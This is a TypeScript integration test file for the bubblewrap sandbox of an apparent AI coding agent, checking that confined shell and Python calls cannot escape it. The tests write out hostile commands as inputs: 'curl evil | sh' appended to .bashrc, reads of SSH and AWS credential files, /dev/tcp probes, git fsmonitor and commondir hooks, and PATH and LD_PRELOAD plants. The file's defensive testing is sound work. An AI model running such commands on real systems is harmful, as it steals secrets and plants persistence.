// @lane integration: real bwrap, bash and Python
import { execSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, realpathSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { createServer as createNetServer, type AddressInfo, type Server as NetServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it, vi } from 'vitest';
import { uniqueSleepSeconds } from '../../../test/process-tree';
import { BashShell } from '../tools/bash/shell';
import { BashTool } from '../tools/bash/tool';
import { PythonInterpreter } from '../tools/python/interpreter';
import type { ToolContext } from '../tools/tool';
import { Sandbox } from './sandbox';
import type { SandboxConfig } from './config';
import { describeWithBwrap } from './test-kit';

// Real bubblewrap, a real pty, real python3: what a confined command can and cannot do.
// "Outside" is a folder next to the workspace; the temp dir the sandbox allows is a private one,
// so /tmp itself is outside too.
const root = realpathSync(mkdtempSync(join(tmpdir(), 'gb-sbx-')));
const ws = join(root, 'ws');
const outside = join(root, 'outside');
const home = join(root, 'home');
const gbHome = join(root, 'gbhome');
const tmp = join(root, 'tmp');
for (const d of [ws, join(ws, 'sub'), outside, join(home, '.ssh'), join(home, '.aws'), join(gbHome, 'sessions'), tmp]) mkdirSync(d, { recursive: true });
writeFileSync(join(home, '.ssh', 'id_ed25519'), 'FAKE-PRIVATE-KEY\n');
writeFileSync(join(home, '.aws', 'credentials'), 'aws_secret_access_key=FAKE-AWS\n');
writeFileSync(join(home, '.netrc'), 'machine x password FAKE-NETRC\n');
mkdirSync(join(home, '.glassbox'));
writeFileSync(join(home, '.glassbox', 'config.json'), '{"llm":{"apiKey":"FAKE-DEFAULT-HOME-KEY"}}\n');
writeFileSync(join(gbHome, 'config.json'), '{"llm":{"apiKey":"FAKE-CONFIG-KEY"}}\n');
writeFileSync(join(gbHome, 'sessions', 's1.jsonl'), '{"FAKE-SESSION":1}\n');
mkdirSync(join(gbHome, 'skills', 'greet', 'scripts'), { recursive: true });
writeFileSync(join(gbHome, 'skills', 'greet', 'scripts', 'hello.sh'), 'echo hello from a home skill\n');
writeFileSync(join(outside, 'readable.txt'), 'outside-but-readable\n');

function sandboxWith(config: Partial<SandboxConfig> = {}): Sandbox {
  return new Sandbox({
    config: { mode: 'workspace-write', network: false, writableRoots: [], ...config },
    workspace: ws,
    glassboxHome: gbHome,
    env: process.env,
    userHome: home,
    tmpDir: tmp,
  });
}

const shells: BashShell[] = [];
function shellIn(sandbox: Sandbox): BashShell {
  const s = new BashShell({ cwd: ws, env: { ...process.env, HOME: home }, sandbox });
  shells.push(s);
  return s;
}
afterAll(async () => {
  for (const s of shells) await s.dispose();
});

/**
 * Live processes anywhere on the machine whose command line contains `token`: a process that
 * escaped the sandbox is no longer in this test's process tree, so the whole machine is looked
 * at, for a token no other process has (uniqueSleepSeconds).
 */
function processesWith(token: string): number[] {
  return readdirSync('/proc')
    .filter((d) => /^\d+$/.test(d))
    .filter((d) => {
      try {
        const stat = readFileSync(`/proc/${d}/stat`, 'utf8');
        return !/^\d+ \(.*\) Z/.test(stat) && readFileSync(`/proc/${d}/cmdline`, 'utf8').replace(/\0/g, ' ').includes(token);
      } catch {
        return false;
      }
    })
    .map(Number);
}

describeWithBwrap('the shell inside the sandbox', () => {
  const sandbox = sandboxWith();
  let shell: BashShell;
  beforeAll(() => {
    expect(sandbox.status()).toMatchObject({ active: true, backend: 'bwrap' });
    shell = shellIn(sandbox);
  });

  it('writes inside the workspace and the private temp dir work; writes outside fail and leave nothing', async () => {
    const inside = await shell.run('echo in > inside.txt && echo t > "$TMPDIR/t.txt" && echo u > /tmp/u.txt && cat inside.txt');
    expect(inside).toMatchObject({ exitCode: 0, output: 'in' });
    expect(readFileSync(join(ws, 'inside.txt'), 'utf8')).toBe('in\n');
    const out = await shell.run(`echo x > ${outside}/x.txt`);
    expect(out.exitCode).not.toBe(0);
    expect(out.output).toMatch(/Read-only file system/);
    expect(existsSync(join(outside, 'x.txt'))).toBe(false);
    // Reading outside is fine (the rest of the file system is read-only, not hidden).
    expect((await shell.run(`cat ${outside}/readable.txt`)).output).toBe('outside-but-readable');
    // The host's temp dir is read-only now: /tmp and $TMPDIR inside are the session's own.
    for (const target of ['/etc/gb-sandbox-test', join(tmp, `gb-not-the-sandbox-tmp-${process.pid}`), join(home, 'planted')]) {
      expect((await shell.run(`touch ${target}`)).exitCode, target).not.toBe(0);
      expect(existsSync(target), target).toBe(false);
    }
  });

  it('cd out of the workspace persists, and writing there still fails; rm -rf outside removes nothing', async () => {
    await shell.run(`cd ${outside}`);
    expect((await shell.run('pwd')).output).toBe(outside);
    expect(shell.state()?.cwd).toBe(outside);
    expect((await shell.run('touch here.txt')).exitCode).not.toBe(0);
    expect((await shell.run(`rm -rf ${outside}/readable.txt`)).exitCode).not.toBe(0);
    expect(existsSync(join(outside, 'readable.txt'))).toBe(true);
    await shell.run('cd /');
    expect((await shell.run(`touch ${outside}/from-root; touch /from-root`)).exitCode).not.toBe(0);
    expect(existsSync(join(outside, 'from-root'))).toBe(false);
    await shell.run(`cd ${ws}`);
  });

  it('exports, functions and aliases persist between calls and are reported', async () => {
    await shell.run('export GB_KEPT=yes; gbfn() { echo "fn $1"; }; alias gbal="echo aliased"');
    expect((await shell.run('echo $GB_KEPT; gbfn x')).output).toBe('yes\nfn x');
    expect(shell.state()).toMatchObject({ cwd: ws, aliases: expect.arrayContaining(['gbal']), functions: ['gbfn'] });
  });

  it('credentials in the home folder and $GLASSBOX_HOME cannot be read', async () => {
    const read = await shell.run(`cat ~/.ssh/id_ed25519 ~/.aws/credentials ~/.netrc ~/.glassbox/config.json ${gbHome}/config.json ${gbHome}/sessions/s1.jsonl 2>&1`);
    expect(read.exitCode).not.toBe(0);
    expect(read.output).not.toMatch(/FAKE-/);
    const list = await shell.run(`ls -A ~/.ssh ~/.aws ${gbHome} ${gbHome}/sessions 2>&1`);
    expect(list.output).not.toMatch(/id_ed25519|credentials|config\.json|s1\.jsonl/);
    // Nor can they be planted there.
    expect((await shell.run('echo k >> ~/.ssh/authorized_keys')).exitCode).not.toBe(0);
    expect(existsSync(join(home, '.ssh', 'authorized_keys'))).toBe(false);
  });

  it("the home's skills show read-only inside the hidden $GLASSBOX_HOME: their scripts run, nothing else there is seen", async () => {
    const run = await shell.run(`bash ${gbHome}/skills/greet/scripts/hello.sh`);
    expect(run.output).toBe('hello from a home skill');
    expect((await shell.run(`echo x > ${gbHome}/skills/greet/planted.sh`)).exitCode).not.toBe(0);
    expect(existsSync(join(gbHome, 'skills', 'greet', 'planted.sh'))).toBe(false);
    const list = await shell.run(`ls -A ${gbHome} 2>&1; cat ${gbHome}/config.json 2>&1`);
    expect(list.output).not.toMatch(/config\.json\n|sessions|FAKE-/);
  });

  it("the project's .glassbox cannot be created or changed (Glassbox runs its MCP servers unconfined)", async () => {
    const r = await shell.run('mkdir -p .glassbox && echo \'{"mcpServers":{}}\' > .glassbox/config.json');
    expect(r.exitCode).not.toBe(0);
    expect(existsSync(join(ws, '.glassbox', 'config.json'))).toBe(false);
  });

  it('links do not lead out: a symlink to outside is read-only there, a hard link to an outside file cannot be made', async () => {
    const r = await shell.run(`ln -s ${outside} out-link && echo x > out-link/via-link.txt`);
    expect(r.exitCode).not.toBe(0);
    expect(existsSync(join(outside, 'via-link.txt'))).toBe(false);
    expect((await shell.run(`ln ${outside}/readable.txt hard-link`)).exitCode).not.toBe(0);
    expect(existsSync(join(ws, 'hard-link'))).toBe(false);
  });

  it('has no network: a server on 127.0.0.1 outside cannot be reached', async () => {
    const server = await httpServer();
    try {
      const port = (server.address() as AddressInfo).port;
      const r = await shell.run(`exec 3<>/dev/tcp/127.0.0.1/${port} && echo connected`, { timeoutMs: 10_000 });
      expect(r.output).not.toContain('connected');
      expect(r.exitCode).not.toBe(0);
    } finally {
      server.close();
    }
  });

  it("sees only its own processes: Glassbox's environment is out of reach through /proc", async () => {
    const r = await shell.run('ls /proc | grep -c "^[0-9]"; cat /proc/1/cmdline | tr "\\0" " "');
    const [count, init] = r.output.split('\n');
    expect(Number(count)).toBeLessThan(10);
    expect(init).toMatch(/bwrap|bash/);
    expect((await shell.run(`cat /proc/${process.pid}/cmdline 2>/dev/null | tr "\\0" " "`)).output).not.toMatch(/node|vitest/);
  });

  it('a background job and a process in a new session are confined too, and end with the shell', async () => {
    await shell.run(`(sleep 0.3; touch ${outside}/bg 2>/dev/null; touch bg-inside) & setsid sh -c 'sleep 0.3; touch ${outside}/bg2 2>/dev/null; touch bg2-inside' & sleep 1000.75 &`);
    // Each job tried its write outside before it left its mark inside.
    const marks = (): boolean[] => [existsSync(join(ws, 'bg-inside')), existsSync(join(ws, 'bg2-inside'))];
    await vi.waitFor(() => expect(marks()).toEqual([true, true]), { timeout: 60_000 });
    expect(existsSync(join(outside, 'bg'))).toBe(false);
    expect(existsSync(join(outside, 'bg2'))).toBe(false);
    const other = shellIn(sandbox);
    const sleeper = `sleep ${uniqueSleepSeconds()}`;
    await other.run(`nohup ${sleeper} >/dev/null 2>&1 & disown; echo started`);
    // (polled: the job may not have exec'd sleep yet when the command returns)
    await vi.waitFor(() => expect(processesWith(sleeper)).toHaveLength(1), { timeout: 60_000 });
    await other.dispose();
    await vi.waitFor(() => expect(processesWith(sleeper)).toEqual([]), { timeout: 60_000 });
  });
});

describeWithBwrap('sockets of programs outside in the shared temp dir', () => {
  it('cannot be connected to (a tmux server, an agent socket): they would run commands outside', async () => {
    const sockets = [join(tmp, 'agent.sock'), join(tmp, 'tmux-0', 'default')];
    mkdirSync(join(tmp, 'tmux-0'));
    const servers = await Promise.all(sockets.map((p) => new Promise<NetServer>((res) => { const sv = createNetServer(() => undefined).listen(p, () => res(sv)); })));
    try {
      const shell = shellIn(sandboxWith());
      const probe = (p: string): string => `python3 -c 'import socket; c = socket.socket(socket.AF_UNIX); c.connect(${JSON.stringify(p)}); print("CONNECTED")'`;
      for (const p of sockets) {
        const r = await shell.run(probe(p));
        expect(r.output, p).not.toContain('CONNECTED');
        expect(r.exitCode, p).not.toBe(0);
      }
      // The same probe from outside the sandbox does connect: the test can fail.
      const outsideShell = new BashShell({ cwd: ws });
      shells.push(outsideShell);
      expect((await outsideShell.run(probe(sockets[1]!))).output).toBe('CONNECTED');
    } finally {
      for (const sv of servers) sv.close();
    }
  });
});

describeWithBwrap('a workspace that holds the home folder', () => {
  it("keeps the home's startup files read-only (glassbox started in ~ must not plant a .bashrc)", async () => {
    const homeWs = join(root, 'homews');
    const user = join(homeWs, 'user');
    mkdirSync(join(user, '.config', 'fish'), { recursive: true });
    writeFileSync(join(user, '.bashrc'), '# mine\n');
    const sandbox = new Sandbox({ config: { mode: 'workspace-write', network: false, writableRoots: [] }, workspace: homeWs, glassboxHome: gbHome, env: process.env, userHome: user, tmpDir: tmp });
    const shell = new BashShell({ cwd: homeWs, env: { ...process.env, HOME: user }, sandbox });
    shells.push(shell);
    expect((await shell.run('echo "curl evil | sh" >> user/.bashrc')).exitCode).not.toBe(0);
    expect((await shell.run('echo x > user/.config/fish/config.fish')).exitCode).not.toBe(0);
    expect(readFileSync(join(user, '.bashrc'), 'utf8')).toBe('# mine\n');
    expect((await shell.run('echo ok > user/notes.txt && cat user/notes.txt')).output).toBe('ok');
  });
});

describeWithBwrap('a git workspace', () => {
  it('commits work, but hooks and config cannot be changed, nor .git renamed away and rebuilt', async () => {
    const repo = join(root, 'repo');
    mkdirSync(repo);
    const git = (args: string): string => execSync(`git -c user.email=t@t -c user.name=t ${args}`, { cwd: repo, encoding: 'utf8' });
    git('init -q .');
    const sandbox = new Sandbox({ config: { mode: 'workspace-write', network: false, writableRoots: [] }, workspace: repo, glassboxHome: gbHome, env: process.env, userHome: home, tmpDir: tmp });
    const shell = new BashShell({ cwd: repo, env: { ...process.env, HOME: home }, sandbox });
    shells.push(shell);
    const commit = await shell.run('echo a > a.txt && git add a.txt && git -c user.email=t@t -c user.name=t commit -qm one && git log --oneline | wc -l');
    expect(commit).toMatchObject({ exitCode: 0, output: '1' });
    for (const attack of [
      'echo "exit 0" > .git/hooks/pre-commit',
      'git config core.fsmonitor "touch /tmp/pwned"',
      'echo "[core] fsmonitor = x" >> .git/config',
      'mv .git .git-old',
      'rm -rf .git',
      'mv .glassbox gb-old',
    ]) {
      expect((await shell.run(attack)).exitCode, attack).not.toBe(0);
    }
    expect(existsSync(join(repo, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(readFileSync(join(repo, '.git', 'config'), 'utf8')).not.toContain('fsmonitor');
    expect(existsSync(join(repo, '.git-old'))).toBe(false);
  });

  it('a planted .git/commondir cannot point git at a config of the confined side’s own (git run outside later would run its core.fsmonitor)', async () => {
    const repo = join(root, 'repo-commondir');
    const pwned = join(outside, 'PWNED-commondir');
    mkdirSync(repo);
    execSync('git init -q . && git -c user.email=t@t -c user.name=t commit -q --allow-empty -m init', { cwd: repo });
    const sandbox = new Sandbox({ config: { mode: 'workspace-write', network: false, writableRoots: [] }, workspace: repo, glassboxHome: gbHome, env: process.env, userHome: home, tmpDir: tmp });
    const shell = new BashShell({ cwd: repo, env: { ...process.env, HOME: home }, sandbox });
    shells.push(shell);
    await shell.run(
      `mkdir -p evil && cp -r .git/. evil/ && printf '[core]\\n\\tfsmonitor = "touch ${pwned}; false"\\n' > evil/config; echo "$PWD/evil" > .git/commondir`,
    );
    const commit = await shell.run('echo a > a.txt && git add a.txt && git -c user.email=t@t -c user.name=t commit -qm one && git log --oneline | wc -l');
    expect(commit).toMatchObject({ exitCode: 0, output: '2' });
    await shell.dispose();
    // The user, outside, later:
    execSync('git status --short', { cwd: repo });
    expect(existsSync(pwned)).toBe(false);
  });
});

describeWithBwrap('the sandbox with network: true', () => {
  it('reaches a server on 127.0.0.1', async () => {
    const server = await httpServer();
    const shell = shellIn(sandboxWith({ network: true }));
    try {
      const port = (server.address() as AddressInfo).port;
      // The server answers at once; the long timeouts are liveness bounds (10 s was too short
      // with two integration runs side by side at load 30: the output was still empty).
      const r = await shell.run(`exec 3<>/dev/tcp/127.0.0.1/${port} && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3; exec 3>&-`, { timeoutMs: 120_000 });
      expect(r.output).toContain('hello-from-outside');
    } finally {
      server.close();
    }
  }, 300_000);
});

describeWithBwrap('read-only mode', () => {
  it('nothing is writable, not even the workspace; reading works', async () => {
    const shell = shellIn(sandboxWith({ mode: 'read-only' }));
    expect((await shell.run('touch ro.txt')).exitCode).not.toBe(0);
    expect(existsSync(join(ws, 'ro.txt'))).toBe(false);
    expect((await shell.run('cat inside.txt')).output).toBe('in');
  });
});

describeWithBwrap('writableRoots', () => {
  it('makes one more folder writable, nothing else', async () => {
    const extra = join(root, 'extra');
    mkdirSync(extra);
    const shell = shellIn(sandboxWith({ writableRoots: [extra] }));
    expect((await shell.run(`touch ${extra}/ok && touch ${outside}/no`)).exitCode).not.toBe(0);
    expect(existsSync(join(extra, 'ok'))).toBe(true);
    expect(existsSync(join(outside, 'no'))).toBe(false);
  });
});

describeWithBwrap('python_execute inside the sandbox', () => {
  it('keeps state, writes only inside, cannot read credentials or reach the network', async () => {
    const py = new PythonInterpreter({ cwd: ws, env: { ...process.env, HOME: home }, sandbox: sandboxWith() });
    try {
      const run = async (code: string): Promise<string> => {
        const r = await py.execute(code, { timeoutMs: 20_000 });
        return r.chunks.map((c) => c.data).join('') + (r.value ?? '') + (r.error ?? '');
      };
      await run('x = 41');
      expect(await run('x + 1')).toBe('42');
      expect(await run("open('py-inside.txt', 'w').write('ok')")).toBe('2');
      expect(existsSync(join(ws, 'py-inside.txt'))).toBe(true);
      expect(await run(`open(${JSON.stringify(join(outside, 'py.txt'))}, 'w')`)).toMatch(/OSError: \[Errno 30\] Read-only file system/);
      expect(existsSync(join(outside, 'py.txt'))).toBe(false);
      expect(await run("import os\nos.listdir(os.path.expanduser('~/.ssh'))")).toBe('[]');
      expect(await run(`import subprocess\nsubprocess.run(['sh', '-c', 'echo x > ${outside}/py-sub.txt']).returncode`)).not.toBe('0');
      expect(existsSync(join(outside, 'py-sub.txt'))).toBe(false);
      expect(await run("import socket\ns = socket.socket()\ns.settimeout(3)\ntry:\n    s.connect(('1.1.1.1', 80)); print('connected')\nexcept OSError as e:\n    print('no network', e.errno)")).toMatch(/no network/);
    } finally {
      await py.stop();
    }
  });
});

describeWithBwrap('an approved escalation', () => {
  it('runs that one call outside the sandbox, from the shell\'s cwd and exports, and only that call', async () => {
    const sandbox = sandboxWith();
    const shell = shellIn(sandbox);
    const tool = new BashTool({ workspace: ws, shell: () => shell, secrets: ['FAKE-SECRET-VALUE'], sandbox });
    const ctx = (escalation?: ToolContext['escalation']): ToolContext => ({
      signal: new AbortController().signal,
      workspace: ws,
      home: gbHome,
      callId: 'c',
      ...(escalation ? { escalation } : {}),
    });
    // A `touch` planted in the workspace and put first on PATH must not be what the escalated call runs.
    await tool.execute({ command: `mkdir -p bin && printf '#!/bin/sh\\necho planted\\n' > bin/touch && chmod +x bin/touch && export PATH="${ws}/bin:${tmp}:$PATH"` }, ctx());
    await tool.execute({ command: `cd sub && export GB_CARRIED=carried LD_PRELOAD=/nonexistent.so GB_LEAK=FAKE-SECRET-VALUE` }, ctx());
    const reasons = [`writes outside the workspace: ${outside}`];
    const escalated = await tool.execute(
      { command: `pwd; echo "$GB_CARRIED/$LD_PRELOAD/$GB_LEAK"; echo once >> ${outside}/escalated.txt; touch ${outside}/touched; case ":$PATH:" in *:${ws}/bin:*|*:${tmp}:*) echo planted-path;; esac` },
      ctx({ reasons }),
    );
    expect(escalated.error).toBeUndefined();
    expect(escalated.output).toBe(`${join(ws, 'sub')}\ncarried//`);
    expect(existsSync(join(outside, 'touched'))).toBe(true);
    expect(escalated.system).toMatch(/Ran outside the sandbox for this one call, as approved \(writes outside the workspace: /);
    expect(escalated.metadata).toMatchObject({ outsideSandbox: true, escalation: reasons });
    expect(readFileSync(join(outside, 'escalated.txt'), 'utf8')).toBe('once\n');
    // The next call is confined again (same command, no grant).
    const again = await tool.execute({ command: `echo twice >> ${outside}/escalated.txt` }, ctx());
    expect(again.error).toMatch(/exit code/);
    expect(readFileSync(join(outside, 'escalated.txt'), 'utf8')).toBe('once\n');
    // Nothing the escalated call did flows back into the shell.
    expect((await tool.execute({ command: 'pwd' }, ctx())).output).toBe(join(ws, 'sub'));
  });
});

describeWithBwrap('an approved escalation of python_execute', () => {
  it('runs in a fresh interpreter outside the sandbox for that call; the persistent one stays confined with its variables', async () => {
    const { PythonExecuteTool } = await import('../tools/python/execute-tool');
    const tool = new PythonExecuteTool({ workspace: ws, env: { ...process.env, HOME: home }, sandbox: sandboxWith() });
    const ctx = (escalation?: ToolContext['escalation']): ToolContext => ({ signal: new AbortController().signal, workspace: ws, home: gbHome, callId: 'p', ...(escalation ? { escalation } : {}) });
    const target = join(outside, 'py-escalated.txt');
    try {
      await tool.execute({ code: 'kept = 7' }, ctx());
      const esc = await tool.execute({ code: `open(${JSON.stringify(target)}, 'w').write('out')\n'kept' in globals()` }, ctx({ reasons: [`writes outside the workspace: ${target}`] }));
      expect(esc.output).toBe('False');
      expect(esc.system).toMatch(/Ran outside the sandbox in a fresh Python process, as approved/);
      expect(readFileSync(target, 'utf8')).toBe('out');
      const confined = await tool.execute({ code: `print(kept)\nopen(${JSON.stringify(target)}, 'w').write('again')` }, ctx());
      expect(confined.output).toBe('7\n');
      expect(confined.error).toMatch(/Read-only file system/);
      expect(readFileSync(target, 'utf8')).toBe('out');
    } finally {
      await tool.dispose();
    }
  });
});

function httpServer(): Promise<Server> {
  return new Promise((resolve) => {
    const s = createServer((_req, res) => res.end('hello-from-outside')).listen(0, '127.0.0.1', () => resolve(s));
  });
}
